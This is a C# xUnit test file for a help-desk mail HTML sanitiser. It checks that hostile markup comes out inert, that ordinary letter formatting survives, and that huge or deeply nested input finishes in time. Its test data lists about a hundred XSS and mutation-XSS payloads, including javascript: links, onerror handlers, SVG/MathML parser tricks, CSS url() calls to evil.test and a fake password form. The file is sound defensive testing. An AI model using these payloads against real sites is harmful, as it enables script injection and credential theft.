using System.Diagnostics;
using AngleSharp.Dom;
using AngleSharp.Html.Parser;
using HelpDesk.Web.Mailroom.Reading;
using Xunit;

namespace HelpDesk.Tests.Mailroom.Reading;

/// <summary>What strangers try in a mail. Each is parsed anew and held against the list of what may be there: no string is searched for.</summary>
public sealed class HostileHtml
{
    private static readonly HashSet<string> Tags = [.. "a abbr address article b big blockquote br caption center cite code col colgroup dd del div dl dt em font h1 h2 h3 h4 h5 h6 hr i img ins kbd li ol p pre q s samp section small span strike strong sub sup table tbody td tfoot th thead tr tt u ul var".Split(' ')];
    private static readonly HashSet<string> Attributes = [.. "href src alt title width height align valign bgcolor color border cellpadding cellspacing colspan rowspan dir lang start style rel target".Split(' ')];
    private static readonly HashSet<string> Styles = [.. "color background-color font-weight font-style font-size text-decoration text-align vertical-align white-space".Split(' ')];

    public static TheoryData<string> Attacks =>
    [
        "<script>alert(1)</script>", "<SCRIPT SRC=//evil.test/x.js></SCRIPT>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<script\n>alert(1)</script\t>", "<<script>alert(1)//<</script>",
        "<img src=x onerror=alert(1)>", "<img/src/onerror=alert(1)>", "<body onload=alert(1)>", "<div onmouseover='alert(1)'>x</div>", "<b/onclick=alert(1)>x", "<details open ontoggle=alert(1)>x", "<p onfocus=alert(1) tabindex=0 autofocus>x",
        "<a href='javascript:alert(1)'>x</a>", "<a href='JaVaScRiPt:alert(1)'>x</a>", "<a href=' javascript:alert(1)'>x</a>", "<a href='java\nscript:alert(1)'>x</a>", "<a href='java&#x09;script:alert(1)'>x</a>", "<a href='&#106;avascript:alert(1)'>x</a>", "<a href='\u0001javascript:alert(1)'>x</a>",
        "<a href='vbscript:msgbox(1)'>x</a>", "<a href='data:text/html,<script>alert(1)</script>'>x</a>", "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>", "<a href='file:///etc/passwd'>x</a>", "<a href='blob:http://x/1'>x</a>",
        "<a href='//evil.test/'>x</a>", "<a href='\\\\evil.test\\x'>x</a>", "<a href='/desk'>x</a>", "<a href='?x'>x</a>", "<a href='#x'>x</a>", "<a href=http://evil.test ping=http://evil.test/p target=_top>x</a>",
        "<img src='javascript:alert(1)'>", "<img src='data:image/svg+xml,<svg onload=alert(1)>'>", "<img src='http://evil.test/a.png'>", "<img src='//evil.test/a.png'>", "<img srcset='http://evil.test/a.png 2x'>", "<picture><source srcset='http://evil.test/a.png'><img></picture>", "<img lowsrc=http://evil.test dynsrc=http://evil.test>",
        "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>", "<svg><animate onbegin=alert(1)>", "<svg><use href='//evil.test/x.svg#a'/></svg>", "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>", "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>", "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml></math>",
        "<style>*{background:url(http://evil.test)}</style>", "<style>@import 'http://evil.test/x.css';</style>", "<div style='position:fixed;top:0;left:0;width:100%;height:100%'>x</div>", "<div style='background:url(http://evil.test/a)'>x</div>", "<div style='background-color:url(http://evil.test/a)'>x</div>", "<div style='color:expression(alert(1))'>x</div>", "<div style='width:e\\78pression(alert(1))'>x</div>", "<div style='-moz-binding:url(http://evil.test)'>x</div>", "<div style='behavior:url(x.htc)'>x</div>", "<div style='font-size:9999px'>x</div>", "<div style='color:red;/*;*/position:absolute'>x</div>", "<div style='color:var(--x)'>x</div>", "<div style='opacity:0'>x</div>",
        "<form action=http://evil.test><input name=password type=password><button>Sign in</button></form>", "<input type=image src=http://evil.test formaction=javascript:alert(1)>", "<button form=x formaction=http://evil.test>x</button>", "<textarea autofocus onfocus=alert(1)>", "<isindex action=javascript:alert(1) type=image>",
        "<base href='http://evil.test/'>", "<meta http-equiv=refresh content='0;url=http://evil.test'>", "<link rel=stylesheet href=http://evil.test>", "<link rel=prefetch href=http://evil.test>", "<iframe src=http://evil.test></iframe>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<frameset><frame src=javascript:alert(1)></frameset>",
        "<object data=http://evil.test></object>", "<embed src=http://evil.test>", "<applet code=x>", "<video src=http://evil.test poster=http://evil.test autoplay></video>", "<audio src=http://evil.test autoplay></audio>", "<video><source onerror=alert(1)></video>",
        "<table background=http://evil.test><tr><td background=http://evil.test>x</td></tr></table>", "<body background=http://evil.test>x", "<a name=forms id=cookie>x</a>", "<img name=getElementById>", "<div class=notice data-live=x contenteditable>x</div>",
        "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->", "<!-- <img src=x onerror=alert(1)>", "<!--><img src=x onerror=alert(1)>-->", "<![CDATA[<img src=x onerror=alert(1)>]]>", "<?xml version='1.0'?><?import namespace=t implementation='http://evil.test'?>",
        "<template><img src=x onerror=alert(1)></template>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>", "<noembed><p title='</noembed><img src=x onerror=alert(1)>'>", "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>", "<title><p title='</title><img src=x onerror=alert(1)>'>", "<plaintext><img src=x onerror=alert(1)>", "<textarea><p title='</textarea><img src=x onerror=alert(1)>'>", "<select><style></select><img src=x onerror=alert(1)></style></select>",
        "<p title=\"x\" \"><img src=x onerror=alert(1)>\">x", "<img alt='`><img src=x onerror=alert(1)>'>", "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>", "<custom-element onclick=alert(1)>x</custom-element>", "<dialog open>x</dialog>", "<marquee onstart=alert(1)>x</marquee>", "<img src=\"x\u0000\" onerror=alert(1)>",
    ];

    [Theory]
    [MemberData(nameof(Attacks))]
    public void It_is_inert(string attack)
    {
        foreach (var html in new[] { attack, $"<table><tr><td>{attack}</td></tr></table>", $"<p>before {attack} after" })
        {
            var once = MailHtml.Sanitise(html);
            Inert(once);
            Inert(MailHtml.Sanitise(once));
        }
    }

    [Fact]
    public void What_a_letter_needs_stays()
    {
        const string letter = "<html><head><title>no words</title><style>p{}</style></head><body><p style=\"color: red; font-size: 12pt\">Hello <b>Sasha</b></p><table><tr><td colspan=\"2\">1</td></tr></table><a href=\"https://example.com/a?b=1\">here</a><form>in a form</form><o:p>Office</o:p></body></html>";
        var body = new HtmlParser().ParseDocument(MailHtml.Sanitise(letter)).Body!;
        Assert.Equal("Hello Sasha1herein a formOffice", body.TextContent);
        Assert.Contains("font-size", body.QuerySelector("p")!.GetAttribute("style"));
        Assert.Equal("2", body.QuerySelector("td")!.GetAttribute("colspan"));
        var link = body.QuerySelector("a")!;
        Assert.Equal(("https://example.com/a?b=1", "https://example.com/a?b=1", "noopener noreferrer nofollow"), (link.GetAttribute("href"), link.GetAttribute("title"), link.GetAttribute("rel")));
    }

    [Fact]
    public void Pictures_that_came_along_are_shown_and_others_when_asked()
    {
        const string html = "<img src='cid:logo@x'><img src='https://example.com/a.png'><img src='http://example.com/b.png'>";
        Assert.True(MailHtml.HasRemoteImages(html));
        Assert.False(MailHtml.HasRemoteImages("<img src='cid:logo@x'>"));
        Assert.Equal(["/images/0", null, null], Sources(MailHtml.Sanitise(html, id => id == "logo@x" ? "/images/0" : null)));
        Assert.Equal(["/images/0", "https://example.com/a.png", null], Sources(MailHtml.Sanitise(html, _ => "/images/0", showRemoteImages: true)));
    }

    [Theory]
    [InlineData("<b>", 100_000)]
    [InlineData("<div>", 100_000)]
    [InlineData("<div>", 15_000)]
    [InlineData("<p><b id=1>", 9_000)]
    [InlineData("<table><tr><td>", 5_000)]
    [InlineData("<b><!--</b>-->", 19_000)]
    [InlineData("<svg><g>", 8_000)]
    [InlineData("<!--", 400_000)]
    [InlineData("<a a=a ", 200_000)]
    [InlineData("&", 2_000_000)]
    public void However_large_or_deep_it_ends_soon_and_the_program_lives(string part, int times)
    {
        var time = Stopwatch.StartNew();
        Inert(MailHtml.Sanitise(string.Concat(Enumerable.Repeat(part, times)) + "words"));
        Assert.True(time.Elapsed < TimeSpan.FromSeconds(30), $"{time.Elapsed}");
    }

    private static void Inert(string html)
    {
        var document = new HtmlParser(new HtmlParserOptions { IsScripting = true }).ParseDocument($"<body>{html}</body>");
        foreach (var element in document.Body!.QuerySelectorAll("*"))
        {
            Assert.Contains(element.LocalName, Tags);
            Assert.Equal(NamespaceNames.HtmlUri, element.NamespaceUri);
            foreach (var attribute in element.Attributes)
            {
                Assert.Contains(attribute.Name, Attributes);
                if (attribute.Name == "href") Assert.Contains(new Uri(attribute.Value, UriKind.Absolute).Scheme, new[] { "http", "https", "mailto", "tel" });
                Assert.NotEqual("src", attribute.Name);
                if (attribute.Name == "style")
                    Assert.All(attribute.Value.Split("; "), one => Assert.True(Styles.Contains(one.Split(':')[0]) && !one.Contains("url(") && !one.Contains("9999"), one));
            }
        }
        Assert.Empty(document.Body.Descendants<IComment>());
    }

    private static string?[] Sources(string html) => [.. new HtmlParser().ParseDocument(html).QuerySelectorAll("img").Select(image => image.GetAttribute("src"))];
}
